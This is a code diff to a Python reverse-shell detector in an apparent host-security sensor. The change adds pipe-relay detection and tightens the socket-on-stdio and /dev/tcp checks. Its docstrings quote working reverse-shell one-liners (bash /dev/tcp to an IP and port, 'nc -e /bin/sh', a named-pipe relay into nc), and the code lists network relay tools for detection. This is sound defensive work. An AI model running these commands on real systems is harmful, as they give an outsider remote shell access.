@@ -1,22 +1,28 @@
-"""`reverse_shell`: a shell whose standard input/output is a network socket.
+"""`reverse_shell`: a shell or interpreter whose stdin and stdout are one network socket.
 
-- `reverse_shell.socket_stdio`: a process duplicates a network socket (IPv4/IPv6) onto two
-  of its standard fds (`dup2(s, 0); dup2(s, 1)`), or a shell starts with its stdin and its
-  stdout or stderr already on a socket (the eBPF sensor reports what fds 0-2 really are at
-  every exec, `Process.stdio`; recordings may carry `fd.types` instead).
-- `reverse_shell.dev_tcp`: a shell command redirecting its standard streams to
-  `/dev/tcp/host/port` (`bash -i >& /dev/tcp/1.2.3.4/4444 0>&1`).
+- `reverse_shell.socket_stdio`: a shell or interpreter duplicates one network socket
+  (IPv4/IPv6) onto fd 0 and fd 1 (`dup2(s, 0); dup2(s, 1)`), or a shell or interpreter
+  starts with its stdin and stdout on the same socket (the eBPF sensor reports what fds
+  0-2 really are at every exec, `Process.stdio`; recordings may carry `fd.types`).
+- `reverse_shell.dev_tcp`: a shell command line that runs a shell or interpreter (or
+  rewires the shell itself with `exec`) with fd 0 and fd 1 on the same `/dev/tcp` socket
+  (`bash -i >& /dev/tcp/1.2.3.4/4444 0>&1`), followed redirection by redirection
+  (`shell_redirects.py`).
+- `reverse_shell.pipe_relay`: a shell reading its commands from a pipe (`sh -i`, or no
+  script) whose output goes into a process holding a network connection, and whose input
+  comes from that process or from a named pipe it fills (`cat f | sh -i 2>&1 | nc h p > f`).
 - `reverse_shell.one_liner`: the classic one-liners, judged by the binary that runs them:
   `nc -e /bin/sh`, `ncat --exec`, `socat ... exec:...`, python/perl/ruby/php code that
   connects a socket and spawns a shell or pty.
+
+Any other use of `/dev/tcp` (a health check over fd 3, `</dev/tcp/h/p` as a port probe)
+is not a reverse shell: no program reads commands from the socket.
 
 One attack is one detection: once a process is reported, its socket dup2s and the shell
 it becomes are folded into that detection.
 
 Static allowlist: super-servers that hand sockets to their children as stdio by design
-(`inetd`, `xinetd`, `systemd` socket activation, `tcpserver`, `sshd` in inetd mode), and a
-bare `/dev/tcp` port probe (`echo > /dev/tcp/db/5432` in a healthcheck), which is returned
-suppressed because no standard stream is redirected.
+(`inetd`, `xinetd`, `systemd` socket activation, `tcpserver`, `sshd` in inetd mode).
 """
 
 from __future__ import annotations
@@ -35,14 +41,18 @@ from vigil.detectors.params import minimum
 from vigil.detectors.process_identity import (AgentIdentity, INTERPRETERS, SHELLS, binary_name,
                                               command_of, is_shell, matched_binary)
 from vigil.detectors.shell_command import shell_command_of
-from vigil.events.model import Event
+from vigil.detectors.shell_redirects import socket_streams
+from vigil.events.model import Event, FdInfo, Peer
 from vigil.priority import Priority
 
 NAME = "reverse_shell"
 TAGS = ("attack.execution", "T1059.004", "attack.command_and_control", "T1071")
 _EXEC = frozenset({"execve", "execveat"})
 _DUP = frozenset({"dup", "dup2", "dup3"})
+_CONNECTIONS = frozenset({"connect", "accept", "accept4"})
 _NET = frozenset({"ipv4", "ipv6"})
+_PIPES = frozenset({"pipe", "fifo"})
+_EINPROGRESS = -115
 
 #: programs that give a connected socket to a child as its stdio by design
 SOCKET_SUPERSERVERS: frozenset[str] = frozenset({
@@ -51,11 +61,11 @@ SOCKET_SUPERSERVERS: frozenset[str] = frozenset({
 })
 
 _DEV_NET = re.compile(r"/dev/(tcp|udp)/([^/\s]+)/(\d+)")
-#: a standard stream redirected (to the /dev/tcp path, or duplicated from it)
-_STDIO_REDIRECT = re.compile(r"(^|\s)-i(\s|$)|[0-2]?>&\s*[0-9]|[0-2]?<&\s*[0-9]|>&\s*/dev/|"
-                             r"&>\s*/dev/|<>\s*/dev/(tcp|udp)|0<\s*/dev/(tcp|udp)|"
-                             r"exec\s+\d*<>")
 _NC = frozenset({"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "busybox"})
+#: programs made to carry a stream over the network (a pipe into one is a pipe to a socket)
+NETWORK_RELAYS: frozenset[str] = _NC | frozenset({
+    "socat", "telnet", "openssl", "cryptcat", "pwncat", "sbd", "rcat", "gnutls-cli",
+})
 #: binaries whose arguments are read as the command text
 _INLINE_CODE_BINARIES = INTERPRETERS | _NC
 _SCRIPT_CODE = {
@@ -113,23 +123,63 @@ def _one_liner(binary: str, args: list[str]) -> str | None:
     return None
 
 
-def _stdio_sockets(event: Event) -> dict[int, str]:
-    """Standard fds of the process that are network sockets: fd -> remote `ip:port` (or
-    the fd type when only the types are known, from a recording's `fd.types`)."""
+def _socket_id(f: FdInfo) -> str:
+    """What names one socket: its inode when the sensor gave it, else its two ends."""
+    if f.ino:
+        return f"ino:{f.ino}"
+    return f"{f.lip or '?'}:{f.lport}->{f.rip or '?'}:{f.rport}"
+
+
+def _remote(f: FdInfo) -> str:
+    return f"{f.rip or '?'}:{f.rport if f.rport is not None else '?'}"
+
+
+def _stdio_socket(event: Event) -> str | None:
+    """The remote end of the one network socket that is both stdin and stdout of the
+    process, or None. A recording with only `fd.types` says the types, not which socket:
+    two network sockets on 0 and 1 are taken as one there."""
     stdio = event.proc.stdio
     if stdio:
-        return {f.num: f"{f.rip or '?'}:{f.rport if f.rport is not None else '?'}"
-                for f in stdio if f.type in _NET and f.num is not None and 0 <= f.num <= 2}
+        by_num = {f.num: f for f in stdio if f.type in _NET and f.num in (0, 1)}
+        if 0 in by_num and 1 in by_num and _socket_id(by_num[0]) == _socket_id(by_num[1]):
+            return _remote(by_num[0])
+        return None
     types = event.fd.types if event.fd is not None and event.fd.types else {}
-    return {n: types[n] for n in (0, 1, 2) if types.get(n) in _NET}
+    if types.get(0) in _NET and types.get(1) in _NET:
+        return str(types[0])
+    return None
+
+
+def _reads_commands_from_stdin(event: Event) -> bool:
+    """A shell that takes its commands from stdin: `sh`, `sh -i`, `bash -s ARGS`."""
+    if not is_shell(event.proc) or shell_command_of(event.proc) is not None:
+        return False
+    for a in event.proc.args:
+        if a in ("-s", "-i", "--") or (a.startswith("-") and not a.startswith("--")
+                                       and ("i" in a[1:] or "s" in a[1:])):
+            return True
+        if not a.startswith("-"):
+            return False  # a script file
+    return True
+
+
+def _stdio_fd(event: Event, num: int) -> FdInfo | None:
+    for f in event.proc.stdio or ():
+        if f.num == num:
+            return f
+    return None
+
+
+def _peer_name(peer: Peer) -> str:
+    return (peer.exepath.rpartition("/")[2] if peer.exepath else None) or peer.name or "?"
 
 
 class ReverseShellDetector(BuiltinDetector):
-    """Shells wired to network sockets, /dev/tcp redirections and reverse-shell one-liners."""
+    """Shells and interpreters whose stdin and stdout are one network socket."""
 
     name = NAME
     Params = ReverseShellParams
-    event_types = frozenset(_EXEC | _DUP)
+    event_types = frozenset(_EXEC | _DUP | _CONNECTIONS)
 
     params: ReverseShellParams
 
@@ -137,18 +187,25 @@ class ReverseShellDetector(BuiltinDetector):
                  own: AgentIdentity | None = None) -> None:
         super().__init__(params, own)
         window_ns = int(self.params.window_seconds * 1e9)
-        #: pid -> {std fd: socket description} of sockets duplicated onto stdio
+        #: pid -> {std fd: socket id} of sockets duplicated onto stdio
         self._stdio: ExpiringMap[int, dict[int, str]] = ExpiringMap(window_ns)
         self._reported: ExpiringMap[int, bool] = ExpiringMap(window_ns)
+        #: pid -> remote end, for processes seen connecting or accepting a connection
+        self._networked: ExpiringMap[int, str] = ExpiringMap(window_ns)
+        #: pid of the process reading a shell's output -> that shell's exec event
+        self._relay_candidates: ExpiringMap[int, Event] = ExpiringMap(window_ns)
 
     def on_event(self, event: Event) -> list[Detection]:
-        """Report sockets on a shell's stdio and reverse-shell command lines."""
-        if event.res is not None and event.res < 0:
+        """Report sockets on a shell's stdin and stdout and reverse-shell command lines."""
+        if event.res is not None and event.res < 0 and not (
+                event.type == "connect" and event.res == _EINPROGRESS):
             return []
         if event.type in _DUP:
             return self._on_dup(event)
         if event.type in _EXEC:
             return self._on_exec(event)
+        if event.type in _CONNECTIONS:
+            return self._on_connection(event)
         return []
 
     def _superserver(self, event: Event):
@@ -165,30 +222,82 @@ class ReverseShellDetector(BuiltinDetector):
         if event.proc.pid is not None:
             self._reported.put(event.proc.pid, event.ts, True)
 
-    def _report_socket_stdio(self, event: Event, sockets: dict[int, str]) -> list[Detection]:
+    def _report_socket_stdio(self, event: Event, remote: str) -> list[Detection]:
         pid = event.proc.pid
         if pid is not None and self._reported.seen_recently(pid, event.ts):
             return []
-        remote = next(iter(sockets.values()))
-        output = (f"Standard streams {sorted(sockets)} of {describe_process(event)} are a "
-                  f"network socket to {remote}: {event.proc.cmdline() or '?'}")
+        self._mark(event)
+        output = (f"Standard input and output of {describe_process(event)} are one network "
+                  f"socket to {remote}: {event.proc.cmdline() or '?'}")
+        ip = remote.rsplit(":", 1)[0] if ":" in remote else None
         return [build_detection(NAME, "socket_stdio", Priority.CRITICAL, output, TAGS, event,
-                                ip=remote.rsplit(":", 1)[0] or None,
-                                data={"fds": sorted(sockets), "remote": remote},
+                                ip=ip if ip and ip != "?" else None,
+                                data={"fds": [0, 1], "remote": remote},
                                 suppressed=self._superserver(event))]
 
     def _on_dup(self, event: Event) -> list[Detection]:
         fd = event.fd
         # the result is the new fd for dup, dup2 and dup3 alike (close(0); dup(s) -> 0)
         newfd = event.res if event.res is not None else int_arg(event, "newfd")
-        if fd is None or fd.type not in _NET or newfd not in (0, 1, 2) or event.proc.pid is None:
-            return []
         pid = event.proc.pid
+        if fd is None or newfd not in (0, 1, 2) or pid is None:
+            return []
         sockets = dict(self._stdio.get(pid, event.ts) or {})
-        sockets[newfd] = f"{fd.rip or '?'}:{fd.rport if fd.rport is not None else '?'}"
+        if fd.type not in _NET:
+            # a file, pipe or terminal put back on the stream (bash restoring stdout after
+            # `printf ... >&3`): that stream is no longer the socket
+            if sockets.pop(newfd, None) is not None:
+                self._stdio.put(pid, event.ts, sockets)
+            return []
+        if binary_name(event.proc) not in INTERPRETERS and not is_shell(event.proc):
+            return []
+        sockets[newfd] = _socket_id(fd)
         self._stdio.put(pid, event.ts, sockets)
-        if 0 in sockets and (1 in sockets or 2 in sockets):
-            return self._report_socket_stdio(event, sockets)
+        if 0 in sockets and sockets.get(1) == sockets[0]:
+            return self._report_socket_stdio(event, _remote(fd))
+        return []
+
+    def _on_connection(self, event: Event) -> list[Detection]:
+        fd, pid = event.fd, event.proc.pid
+        if fd is None or fd.type not in _NET or pid is None:
+            return []
+        self._networked.put(pid, event.ts, _remote(fd))
+        shell_event = self._relay_candidates.get(pid, event.ts)
+        if shell_event is None:
+            return []
+        self._relay_candidates.pop(pid)
+        return self._report_relay(shell_event, f"{binary_name(event.proc)} (pid {pid}) "
+                                               f"connected with {_remote(fd)}")
+
+    def _report_relay(self, event: Event, how: str) -> list[Detection]:
+        pid = event.proc.pid
+        if pid is not None and self._reported.seen_recently(pid, event.ts):
+            return []
+        self._mark(event)
+        output = (f"Shell {describe_process(event)} reads commands from a pipe and writes its "
+                  f"output into a network connection: {how}: {event.proc.cmdline() or '?'}")
+        return [build_detection(NAME, "pipe_relay", Priority.CRITICAL, output, TAGS, event,
+                                data={"command": event.proc.cmdline(), "relay": how},
+                                suppressed=self._superserver(event))]
+
+    def _pipe_relay(self, event: Event) -> list[Detection]:
+        """`cat f | sh -i 2>&1 | nc h p > f`: sh's output goes into nc's connection."""
+        if not _reads_commands_from_stdin(event):
+            return []
+        stdin, stdout = _stdio_fd(event, 0), _stdio_fd(event, 1)
+        if stdin is None or stdout is None or stdin.type not in _PIPES \
+                or stdout.type not in _PIPES or stdout.peer is None or stdout.peer.pid is None:
+            return []
+        reader = stdout.peer
+        name = _peer_name(reader)
+        if name in NETWORK_RELAYS:
+            return self._report_relay(event, f"its output goes to {name} (pid {reader.pid})")
+        remote = self._networked.get(reader.pid, event.ts)
+        if remote is not None:
+            return self._report_relay(event, f"its output goes to {name} (pid {reader.pid}), "
+                                             f"connected with {remote}")
+        # the reader has not connected yet (it starts with the shell): wait for it
+        self._relay_candidates.put(reader.pid, event.ts, event)
         return []
 
     def _on_exec(self, event: Event) -> list[Detection]:
@@ -196,9 +305,14 @@ class ReverseShellDetector(BuiltinDetector):
         if self.own.owns(proc):
             return []
         out: list[Detection] = []
-        sockets = _stdio_sockets(event)
-        if is_shell(proc) and 0 in sockets and (1 in sockets or 2 in sockets):
-            out += self._report_socket_stdio(event, sockets)
+        if proc.pid is not None:
+            self._stdio.pop(proc.pid)
+        if is_shell(proc) or binary_name(proc) in INTERPRETERS:
+            remote = _stdio_socket(event)
+            if remote is not None:
+                out += self._report_socket_stdio(event, remote)
+        if not out:
+            out += self._pipe_relay(event)
         command = command_of(proc)
         if command is None:
             return out
@@ -206,21 +320,19 @@ class ReverseShellDetector(BuiltinDetector):
         text = shell_command_of(proc) if binary in SHELLS or is_shell(proc) else None
         if text is None and binary in _INLINE_CODE_BINARIES:
             text = " ".join(args)
-        if text and (m := _DEV_NET.search(text)):
-            redirected = bool(_STDIO_REDIRECT.search(text))
-            suppression = None if redirected else static_suppression(
-                NAME, "port_probe", f"/dev/{m.group(1)}",
-                "a /dev/tcp port probe (healthcheck) without redirected standard streams")
-            output = (f"Shell wired to {m.group(1).upper()} {m.group(2)}:{m.group(3)} through "
-                      f"/dev/{m.group(1)}: `{text}` by {describe_process(event)}")
-            if redirected:
+        if text and (streams := socket_streams(text, INTERPRETERS)) is not None:
+            m = _DEV_NET.search(streams.socket)
+            host, port = (m.group(2), int(m.group(3))) if m else (None, None)
+            output = (f"Shell command runs {streams.program} with stdin and stdout on "
+                      f"{streams.socket}: `{text}` by {describe_process(event)}")
+            if not out:
                 self._mark(event)
-            out.append(build_detection(
-                NAME, "dev_tcp", Priority.CRITICAL, output, TAGS, event, ip=m.group(2),
-                data={"command": text, "port": int(m.group(3))}, suppressed=suppression))
+                out.append(build_detection(
+                    NAME, "dev_tcp", Priority.CRITICAL, output, TAGS, event, ip=host,
+                    data={"command": text, "port": port, "program": streams.program}))
             return out
         what = _one_liner(binary, args)
-        if what:
+        if what and not out:
             self._mark(event)
             out.append(build_detection(
                 NAME, "one_liner", Priority.CRITICAL,
